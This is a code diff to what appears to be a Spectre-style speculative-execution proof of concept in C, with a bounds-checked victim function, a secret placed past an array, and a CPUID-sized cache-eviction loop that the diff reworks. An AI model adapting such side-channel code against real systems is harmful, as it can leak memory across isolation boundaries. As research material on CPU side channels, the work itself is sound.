@@ -11,11 +11,11 @@
 static const char ABOUT[] = "nobody through victim(): the secret lies beyond the end of its array";
 
 static struct { u64 length, rest[7]; } bound __attribute__((aligned(LINE))) = {16, {0}};
-static struct { u64 *length, rest[7]; } shape __attribute__((aligned(LINE))) = {&bound.length, {0}};
+static struct { u64 *volatile length, rest[7]; } shape __attribute__((aligned(LINE))) = {&bound.length, {0}};
 static u8 array[LINE] __attribute__((aligned(LINE)));
 static u8 secret[MOST] __attribute__((aligned(LINE)));
 static const u8 *crowd;
-static u64 crowd_size;
+static u64 crowd_size; /* a power of two */
 
 NOINLINE static void victim(u64 index)
 {
@@ -28,13 +28,17 @@ static void find_size(void)
 {
     u32 a = 4, b, c = 2, d;
     __asm__ volatile("cpuid" : "+a"(a), "=b"(b), "+c"(c), "=d"(d));
-    crowd_size = (a & 31) == 3 ? 2UL * ((b >> 22) + 1) * ((b & 4095) + 1) * (c + 1) : 1 << 19;
+    u64 size = (a & 31) == 3 ? ((b >> 22) + 1UL) * ((b & 4095) + 1) * (c + 1) : 1 << 18;
+    for (crowd_size = PAGE; crowd_size < 2 * size; crowd_size *= 2)
+        ;
 }
 
 NOINLINE static void evict(void)
 {
-    for (u64 i = 0; i < crowd_size; i += LINE)
-        touch(crowd + i * 40503 % crowd_size); /* in an order that no prefetcher guesses */
+    u64 end = crowd_size, mask = crowd_size - 1;
+    const u8 *lines = crowd;
+    for (u64 i = 0; i < end; i += LINE)
+        touch(lines + (i * 40503 & mask)); /* in an order that no prefetcher guesses */
     fence();
 }
 
